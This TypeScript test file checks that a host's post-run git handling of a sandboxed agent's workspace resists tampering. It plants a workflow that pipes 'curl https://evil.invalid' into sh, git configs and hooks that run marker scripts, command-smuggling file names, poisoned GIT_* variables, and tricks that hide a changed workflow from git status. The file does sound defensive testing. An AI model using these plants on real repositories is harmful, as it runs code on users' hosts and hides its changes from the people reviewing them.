/**
 * Host git with the sandbox layer switched off: everything is planted directly in the workspace, as
 * the agent would if the sandbox had let it write all of `.git`. Then the host does what it does
 * after a run — snapshot (before), changedFiles, diffPatch, diffStat, commitChanges, pushCommit —
 * and no planted program may run, the changed workflow must be reported, and the pushed commit must
 * hold exactly the worktree's changes.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, mkdirSync, openSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync, writeSync, closeSync, appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, describe, expect, test } from 'vitest';
import { changedFiles, diffPatch, diffStat } from '../../src/git/host-git-changes.js';
import type { Changes } from '../../src/git/host-git-changes.js';
import { commitChanges } from '../../src/git/host-git-commit.js';
import { pushCommit } from '../../src/git/host-git-push.js';
import { snapshotRepository } from '../../src/git/host-git-snapshot.js';
import { HostGitIntegrityError } from '../../src/git/host-git-types.js';
import type { RepositorySnapshot } from '../../src/git/host-git-types.js';
import { tempDir } from '../support/temp-repo.js';
import { applyOnCleanCheckout, DEFAULT_FILES, expectNoMarkers, git, HOST_PATH, makeRepo, markerDir, markerScript, writeFiles } from './fixture.js';

const WORKFLOW = '.github/workflows/ci.yml';
const EVIL_WORKFLOW = 'on: pull_request_target\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.invalid | sh\n';
const HOOKS = [
  'pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-index-change',
  'fsmonitor-watchman', 'pre-auto-gc', 'post-checkout', 'post-merge', 'post-rewrite', 'pre-receive', 'update', 'post-update',
  'push-to-checkout', 'pre-applypatch', 'post-applypatch', 'applypatch-msg', 'pre-rebase', 'sendemail-validate', 'proc-receive',
];

interface World {
  origin: string;
  ws: string;
  markers: string;
  snapshot: RepositorySnapshot;
  /** Paths the worktree changes (besides the workflow), for the expected commit. */
  extra: Array<[string, 'A' | 'M' | 'D']>;
  /** Paths expected among changes.skipped. */
  skipped: string[];
}

/** git as the agent runs it inside the workspace, never itself triggering what was planted. */
function agentGit(cwd: string, ...args: string[]): string {
  return git(cwd, '-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/nonexistent', '-c', 'commit.gpgSign=false', '-c', 'core.splitIndex=false', ...args);
}

/** A bare origin, a full clone as the workspace (objects packed, like a checkout), the snapshot, then the workflow change. */
async function world(files: Record<string, string> = DEFAULT_FILES, cloneArgs: string[] = []): Promise<World> {
  const seed = makeRepo(files);
  const root = tempDir('warden-hostgit-origin-');
  const origin = join(root, 'origin.git');
  git(root, 'clone', '-q', '--bare', seed, origin);
  const ws = tempDir('warden-hostgit-ws-');
  git(ws, '-c', 'protocol.file.allow=always', 'clone', '-q', ...cloneArgs, `file://${origin}`, '.');
  const r = await snapshotRepository({ workspace: ws, hostPath: HOST_PATH, stateDir: tempDir('warden-hostgit-state-') });
  if (r.kind !== 'repository') throw new Error(r.reason);
  writeFileSync(join(ws, WORKFLOW), EVIL_WORKFLOW);
  return { origin, ws, markers: markerDir(), snapshot: r.snapshot, extra: [], skipped: [] };
}

interface Outcome {
  changes: Changes;
  patch: Buffer | HostGitIntegrityError;
  pushedCommit: string;
}

/** Everything the host does after a run, in order. */
async function hostAfterRun(w: World): Promise<Outcome> {
  const changes = await changedFiles(w.snapshot, { timeoutMs: 30_000 });
  let patch: Buffer | HostGitIntegrityError;
  try {
    patch = await diffPatch(changes);
    await diffStat(changes);
  } catch (err) {
    if (!(err instanceof HostGitIntegrityError)) throw err;
    patch = err;
  }
  const commit = await commitChanges(changes, { message: 'warden: changes', author: { name: 'warden[bot]', email: 'warden@example.invalid' } });
  if (commit.kind !== 'committed') throw new Error('expected a commit');
  const pushed = await pushCommit(w.snapshot, { commit: commit.commit, remoteUrl: `file://${w.origin}`, ref: 'refs/heads/warden/attack', timeoutMs: 30_000 });
  expect(pushed).toMatchObject({ ok: true });
  return { changes, patch, pushedCommit: commit.commit };
}

/** No marker; the workflow reported; the pushed commit is exactly the worktree's changes; the patch reproduces it. */
function expectHeld(w: World, o: Outcome, patch: 'applies' | 'refused' = 'applies'): void {
  expectNoMarkers(w.markers);
  expect(o.changes.files).toContainEqual({ path: WORKFLOW, status: 'modified' });
  expect(o.changes.skipped.map((x) => x.path).sort()).toEqual([...w.skipped].sort());
  const expected = [[WORKFLOW, 'M'] as const, ...w.extra].map(([p, st]) => `${st}\t${p}`).sort();
  const onRemote = git(w.origin, '-c', 'core.quotePath=false', 'diff-tree', '-r', '--no-renames', '--name-status', w.snapshot.startCommit ?? '', o.pushedCommit).split('\n').filter(Boolean).sort();
  expect(onRemote).toEqual(expected);
  expect(git(w.origin, 'show', `${o.pushedCommit}:${WORKFLOW}`)).toBe(EVIL_WORKFLOW);
  if (patch === 'applies') {
    if (o.patch instanceof Error) throw o.patch;
    expect(applyOnCleanCheckout(w.origin, w.snapshot.startCommit, o.patch)).toBe(git(w.origin, 'rev-parse', `${o.pushedCommit}^{tree}`).trim());
  } else {
    expect(o.patch).toBeInstanceOf(HostGitIntegrityError);
  }
}

/** A git config file that would run a marker through every program-valued key git has. */
function hostileConfig(markers: string, tag: string): string {
  const script = markerScript(join(tempDir(), `${tag}-prog`), markers, `${tag}-program-ran`);
  const hooks = tempDir();
  for (const h of HOOKS) markerScript(join(hooks, h), markers, `${tag}-hook-${h}`);
  const include = join(tempDir(), 'included.gitconfig');
  writeFileSync(include, `[core]\n\tfsmonitor = ${script}\n\tpager = ${script}\n`);
  return [
    '[core]', `\tfsmonitor = ${script}`, `\thooksPath = ${hooks}`, `\tsshCommand = ${script}`, `\tpager = ${script}`, `\teditor = ${script}`,
    `\taskPass = ${script}`, `\tgitProxy = ${script}`, `\talternateRefsCommand = ${script}`, '\tuntrackedCache = true', '\tsplitIndex = true',
    '[credential]', `\thelper = !${script}`, '[gpg]', `\tprogram = ${script}`, '[commit]', '\tgpgSign = true', '[push]', '\tgpgSign = true',
    '[diff]', `\texternal = ${script}`, '[filter "evil"]', `\tclean = ${script}`, `\tsmudge = ${script}`, `\tprocess = ${script}`, '\trequired = true',
    '[filter "lfs"]', `\tclean = ${script}`, `\tprocess = ${script}`, '[diff "evil"]', `\tcommand = ${script}`, `\ttextconv = ${script}`,
    '[merge "evil"]', `\tdriver = ${script}`, '[uploadpack]', `\tpackObjectsHook = ${script}`, '[remote "origin"]', `\tpushurl = ext::${script}`,
    '[protocol]', '\tallow = always', '[include]', `\tpath = ${include}`, '[includeIf "gitdir:/"]', `\tpath = ${include}`,
    '[url "ext::sh -c touch% /tmp/x% "]', '\tinsteadOf = file://', '',
  ].join('\n');
}

type Plant = (w: World) => void;

const plants: Record<string, Plant> = {
  'config: fsmonitor, hooksPath, sshCommand, pager, editor, askPass, credential helper, gpg, diff.external, drivers, include.path': (w) => {
    writeFileSync(join(w.ws, '.git/config'), hostileConfig(w.markers, 'config'));
  },
  'commondir → a copied git dir whose config runs fsmonitor and hooks': (w) => {
    const evil = join(tempDir(), 'common');
    cpSync(join(w.ws, '.git'), evil, { recursive: true });
    writeFileSync(join(evil, 'config'), hostileConfig(w.markers, 'commondir'));
    writeFileSync(join(w.ws, '.git/commondir'), `${evil}\n`);
  },
  'config.worktree with extensions.worktreeConfig': (w) => {
    appendFileSync(join(w.ws, '.git/config'), '[extensions]\n\tworktreeConfig = true\n');
    writeFileSync(join(w.ws, '.git/config.worktree'), hostileConfig(w.markers, 'worktree'));
  },
  'hooks: every hook git knows, and fsmonitor-watchman as core.fsmonitor': (w) => {
    for (const h of HOOKS) markerScript(join(w.ws, '.git/hooks', h), w.markers, `hook-${h}`);
    appendFileSync(join(w.ws, '.git/config'), '[core]\n\tfsmonitor = .git/hooks/fsmonitor-watchman\n');
  },
  '.gitattributes and info/attributes name filter, diff, textconv and merge drivers': (w) => {
    appendFileSync(join(w.ws, '.git/config'), hostileConfig(w.markers, 'attributes'));
    mkdirSync(join(w.ws, '.git/info'), { recursive: true });
    writeFileSync(join(w.ws, '.git/info/attributes'), '* filter=evil diff=evil merge=evil\n');
    writeFileSync(join(w.ws, '.gitattributes'), '* filter=evil diff=evil merge=evil\n*.yml filter=lfs diff=lfs\n');
    w.extra.push(['.gitattributes', 'A']);
  },
  'skip-worktree and assume-unchanged on the changed workflow; HEAD and the branch rewritten to a commit holding it; a replace ref': (w) => {
    const original = agentGit(w.ws, 'rev-parse', `HEAD:${WORKFLOW}`).trim();
    agentGit(w.ws, 'commit', '-q', '-a', '-m', 'hide it');
    agentGit(w.ws, 'update-index', '--skip-worktree', WORKFLOW);
    agentGit(w.ws, 'update-index', '--assume-unchanged', WORKFLOW);
    const hidden = agentGit(w.ws, 'rev-parse', 'HEAD').trim();
    agentGit(w.ws, 'update-ref', 'refs/heads/main', hidden);
    writeFileSync(join(w.ws, '.git/HEAD'), `${hidden}\n`);
    const evilBlob = agentGit(w.ws, 'rev-parse', `HEAD:${WORKFLOW}`).trim();
    agentGit(w.ws, 'replace', '-f', original, evilBlob);
    // The agent's own view now says nothing changed.
    expect(agentGit(w.ws, 'status', '--porcelain')).toBe('');
  },
  '.git replaced by a gitdir: file pointing at a hostile git dir': (w) => {
    const evil = join(tempDir(), 'elsewhere');
    cpSync(join(w.ws, '.git'), evil, { recursive: true });
    writeFileSync(join(evil, 'config'), hostileConfig(w.markers, 'gitfile'));
    for (const h of HOOKS) markerScript(join(evil, 'hooks', h), w.markers, `gitfile-hook-${h}`);
    rmSync(join(w.ws, '.git'), { recursive: true });
    writeFileSync(join(w.ws, '.git'), `gitdir: ${evil}\n`);
  },
  '.git replaced by a symlink to a hostile git dir': (w) => {
    const evil = join(tempDir(), 'linked');
    renameSync(join(w.ws, '.git'), evil);
    writeFileSync(join(evil, 'config'), hostileConfig(w.markers, 'gitlink'));
    symlinkSync(evil, join(w.ws, '.git'));
  },
  'a nested repository the agent created, with a hostile config and hooks': (w) => {
    const nested = join(w.ws, 'vendor/lib');
    mkdirSync(nested, { recursive: true });
    agentGit(nested, 'init', '-q');
    writeFileSync(join(nested, '.git/config'), hostileConfig(w.markers, 'nested'));
    writeFiles(nested, { 'index.js': 'module.exports = 1;\n' });
    w.skipped.push('vendor/lib/');
  },
  'file names that look like options or pathspec magic': (w) => {
    const names = ['-rf', '--upload-pack=touch', ':(exclude)README.md', '*', '$(touch pwned)', '`touch pwned`'];
    writeFiles(w.ws, Object.fromEntries(names.map((n) => [`odd/${n}`, 'x\n'])));
    for (const n of names) w.extra.push([`odd/${n}`, 'A']);
  },
};

describe('host git holds with the sandbox switched off', () => {
  test.each(Object.keys(plants))('%s', async (name) => {
    const w = await world();
    plants[name]?.(w);
    expectHeld(w, await hostAfterRun(w));
  });

  test('all of them at once, then .git itself replaced by a gitdir file to the planted copy', async () => {
    const w = await world();
    // The plant that runs git in the workspace goes first, before config that would make that git misbehave.
    const order = Object.keys(plants).sort((a, b) => Number(b.startsWith('skip-worktree')) - Number(a.startsWith('skip-worktree')));
    for (const name of order) if (!name.startsWith('.git replaced')) plants[name]?.(w);
    plants['.git replaced by a gitdir: file pointing at a hostile git dir']?.(w);
    expectHeld(w, await hostAfterRun(w));
  });

  test('a tracked submodule whose git dir gets a hostile config, with changes inside it: never looked into', async () => {
    const sub = makeRepo({ 'lib.js': 'lib\n' });
    const seed = makeRepo(DEFAULT_FILES);
    git(seed, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', sub, 'sub');
    git(seed, 'commit', '-q', '-m', 'add submodule');
    const root = tempDir('warden-hostgit-origin-');
    const origin = join(root, 'origin.git');
    git(root, 'clone', '-q', '--bare', seed, origin);
    const ws = tempDir('warden-hostgit-ws-');
    git(ws, '-c', 'protocol.file.allow=always', 'clone', '-q', '--recurse-submodules', `file://${origin}`, '.');
    const r = await snapshotRepository({ workspace: ws, hostPath: HOST_PATH, stateDir: tempDir() });
    if (r.kind !== 'repository') throw new Error(r.reason);
    expect(r.snapshot.submodules).toEqual(['sub']);
    const w: World = { origin, ws, markers: markerDir(), snapshot: r.snapshot, extra: [], skipped: [] };
    writeFileSync(join(ws, WORKFLOW), EVIL_WORKFLOW);
    appendFileSync(join(ws, '.git/modules/sub/config'), hostileConfig(w.markers, 'submodule'));
    for (const h of HOOKS) markerScript(join(ws, '.git/modules/sub/hooks', h), w.markers, `submodule-hook-${h}`);
    writeFiles(ws, { 'sub/lib.js': 'changed inside\n', 'sub/new.js': 'new inside\n' });
    writeFileSync(join(ws, '.gitmodules'), `[submodule "sub"]\n\tpath = sub\n\turl = ext::touch ${w.markers}/gitmodules\n\tignore = none\n`);
    w.extra.push(['.gitmodules', 'M']);
    expectHeld(w, await hostAfterRun(w));
    // Control: git status in the superproject looks into the submodule and runs its fsmonitor.
    naiveHostGit(ws, { PATH: HOST_PATH, HOME: tempDir() }, true);
    expect(readdirSync(w.markers).length).toBeGreaterThan(0);
  });
});

/** What Warden's post-run git did before this module (git-changes.ts), plus a diff and a commit, in the workspace itself. */
function naiveHostGit(ws: string, env: NodeJS.ProcessEnv = { PATH: HOST_PATH, HOME: tempDir() }, statusOnly = false): void {
  const all = [['status', '--porcelain', '--untracked-files=all'], ['diff'], ['-c', 'user.name=x', '-c', 'user.email=x@y', 'commit', '-qam', 'x']];
  for (const args of statusOnly ? all.slice(0, 1) : all) {
    try {
      execFileSync('git', args, { cwd: ws, env, stdio: 'ignore', timeout: 10_000 });
    } catch {
      // Failing is fine; running what was planted is the point.
    }
  }
}

describe('control: the same plants do run under naive host git, so the tests above can fail', () => {
  const live = Object.keys(plants).filter((n) => !/^(skip-worktree|a nested repository|file names)/.test(n));
  test.each(live)('%s', async (name) => {
    const w = await world();
    plants[name]?.(w);
    naiveHostGit(w.ws);
    expect(readdirSync(w.markers).length).toBeGreaterThan(0);
  });

  test('skip-worktree and a rewritten HEAD hide the workflow from git status', async () => {
    const w = await world();
    plants['skip-worktree and assume-unchanged on the changed workflow; HEAD and the branch rewritten to a commit holding it; a replace ref']?.(w);
    expect(execFileSync('git', ['status', '--porcelain'], { cwd: w.ws, env: { PATH: HOST_PATH }, encoding: 'utf8' })).toBe('');
  });
});

describe('the host process environment cannot steer host git', () => {
  const saved = { ...process.env };
  afterEach(() => {
    for (const k of Object.keys(process.env)) if (!(k in saved)) delete process.env[k];
    Object.assign(process.env, saved);
  });

  test('GIT_* variables, HOME and XDG_CONFIG_HOME pointing at hostile config; a PATH with workspace programs first', async () => {
    const w = await world();
    const m = w.markers;
    const script = markerScript(join(tempDir(), 'env-prog'), m, 'env-program-ran');
    const evilHome = tempDir();
    writeFileSync(join(evilHome, '.gitconfig'), hostileConfig(m, 'home'));
    writeFiles(evilHome, { '.config/git/config': hostileConfig(m, 'xdg'), '.config/git/attributes': '* filter=evil diff=evil\n' });
    const execPath = tempDir();
    for (const prog of ['git-receive-pack', 'git-upload-pack', 'git-remote-https', 'git-remote-http', 'git-pack-objects', 'git-index-pack', 'git-sh-setup']) {
      markerScript(join(execPath, prog), m, `exec-path-${prog}`);
    }
    const globalCfg = join(tempDir(), 'global');
    writeFileSync(globalCfg, hostileConfig(m, 'global'));
    Object.assign(process.env, {
      HOME: evilHome, XDG_CONFIG_HOME: join(evilHome, '.config'), GIT_CONFIG_GLOBAL: globalCfg, GIT_CONFIG_SYSTEM: globalCfg, GIT_CONFIG_NOSYSTEM: '0',
      GIT_CONFIG_PARAMETERS: `'core.fsmonitor'='${script}'`, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.hooksPath', GIT_CONFIG_VALUE_0: evilHome,
      GIT_DIR: join(w.ws, '.git'), GIT_WORK_TREE: '/', GIT_INDEX_FILE: join(w.ws, '.git/index'), GIT_OBJECT_DIRECTORY: join(w.ws, '.git/objects'),
      GIT_EXEC_PATH: execPath, GIT_SSH_COMMAND: script, GIT_SSH: script, GIT_ASKPASS: script, SSH_ASKPASS: script, GIT_EXTERNAL_DIFF: script,
      GIT_PAGER: script, PAGER: script, GIT_EDITOR: script, EDITOR: script, GIT_PROXY_COMMAND: script, GIT_TEMPLATE_DIR: evilHome,
      GIT_TRACE: join(m, 'trace'), GIT_TRACE2: join(m, 'trace2'), GIT_TRACE_PACKET: join(m, 'trace-packet'), GIT_TRACE_SETUP: join(m, 'trace-setup'),
      GIT_REPLACE_REF_BASE: 'refs/evil/', GIT_NO_REPLACE_OBJECTS: '', GIT_ALLOW_PROTOCOL: 'ext:file:https', GIT_PROTOCOL_FROM_USER: '1',
    });
    const bin = join(w.ws, 'bin');
    for (const prog of ['git', 'sh', 'cat', 'false', 'ssh', 'less', 'gpg', 'git-receive-pack']) markerScript(join(bin, prog), m, `workspace-bin-${prog}`);
    const r = await snapshotRepository({ workspace: w.ws, hostPath: `${bin}:${HOST_PATH}`, stateDir: tempDir() });
    if (r.kind !== 'repository') throw new Error(r.reason);
    w.snapshot = r.snapshot;
    // The workspace's bin/ is a new directory of the run.
    for (const prog of ['git', 'sh', 'cat', 'false', 'ssh', 'less', 'gpg', 'git-receive-pack']) w.extra.push([`bin/${prog}`, 'A']);
    expectHeld(w, await hostAfterRun(w));
    // Control: git that inherits this environment does run what it names.
    naiveHostGit(w.ws, process.env, true);
    expect(readdirSync(m).length).toBeGreaterThan(0);
  });
});

describe('object tampering fails closed', () => {
  /** The original workflow blob's loose object path (the workspace made by makeRepo keeps objects loose). */
  function looseObjectPath(ws: string, id: string): string {
    return join(ws, '.git/objects', id.slice(0, 2), id.slice(2));
  }

  test('a loose object rewritten in place (same inode) is refused; the list and the commit stay right', async () => {
    const seed = makeRepo(DEFAULT_FILES);
    const root = tempDir();
    const origin = join(root, 'origin.git');
    // Not hard-linked to the workspace's objects: the tampering below must not reach the remote.
    git(root, 'clone', '-q', '--bare', '--no-hardlinks', seed, origin);
    const ws = seed;
    const snapshot = await snapshotRepository({ workspace: ws, hostPath: HOST_PATH, stateDir: tempDir() });
    if (snapshot.kind !== 'repository') throw new Error(snapshot.reason);
    // src/app.js changes too: its starting blob is read from the workspace's store, where the
    // workflow's was copied into the private one when the snapshot was taken (its text is trusted).
    const w: World = { origin, ws, markers: markerDir(), snapshot: snapshot.snapshot, extra: [['src/app.js', 'M']], skipped: [] };
    const app = 'export const answer = 41;\n';
    for (const [file, content] of [[WORKFLOW, EVIL_WORKFLOW], ['src/app.js', app]] as const) {
      writeFileSync(join(ws, file), content);
      const path = looseObjectPath(ws, git(ws, 'rev-parse', `HEAD:${file}`).trim());
      const ino = statSync(path).ino;
      chmodSync(path, 0o644);
      const forged = deflateSync(Buffer.from(`blob ${Buffer.byteLength(content)}\0${content}`));
      const fd = openSync(path, 'r+');
      writeSync(fd, forged, 0, forged.length, 0);
      closeSync(fd);
      execFileSync('truncate', ['-s', String(forged.length), path]);
      expect(statSync(path).ino).toBe(ino);
    }
    // Git in the workspace itself now believes nothing changed.
    expect(git(ws, 'diff', '--stat')).toBe('');
    expectHeld(w, await hostAfterRun(w), 'refused');
  });

  test('alternates to a store with altered content, and every pack and loose object of the workspace overwritten', async () => {
    const w = await world();
    const id = w.snapshot.startTree;
    expect(id).toMatch(/^[0-9a-f]{40}$/);
    const evilStore = join(tempDir(), 'objects');
    mkdirSync(evilStore);
    writeFileSync(join(w.ws, '.git/objects/info/alternates'), `${evilStore}\n`);
    const walk = (d: string): void => {
      for (const name of readdirSync(d)) {
        const p = join(d, name);
        const st = statSync(p);
        if (st.isDirectory()) walk(p);
        else if (name !== 'alternates') {
          chmodSync(p, 0o644);
          writeFileSync(p, readFileSync(p).map((b) => b ^ 0x5a));
        }
      }
    };
    walk(join(w.ws, '.git/objects'));
    // The workflow's starting blob was copied into the private store with the snapshot: the patch
    // comes from that copy, and is right; every other object is only in the workspace's, altered.
    expectHeld(w, await hostAfterRun(w));
  });

  test('the private git dir shares no file (inode) with the workspace; only the verified object links do', async () => {
    const w = await world();
    const inodes = (d: string, acc: Set<string>): Set<string> => {
      for (const name of readdirSync(d)) {
        const p = join(d, name);
        const st = statSync(p);
        if (st.isDirectory()) inodes(p, acc);
        else acc.add(`${st.dev}:${st.ino}`);
      }
      return acc;
    };
    const workspace = inodes(join(w.ws, '.git'), new Set());
    const state = inodes(w.snapshot.state.gitDir, new Set());
    expect([...state].filter((i) => workspace.has(i))).toEqual([]);
    expect(inodes(w.snapshot.state.stateDir, new Set()).size).toBeGreaterThan(state.size);
  });

  test('.git deleted after the snapshot: list, patch (from the linked object files, verified) and commit still right', async () => {
    const w = await world();
    rmSync(join(w.ws, '.git'), { recursive: true });
    expectHeld(w, await hostAfterRun(w));
  });
});
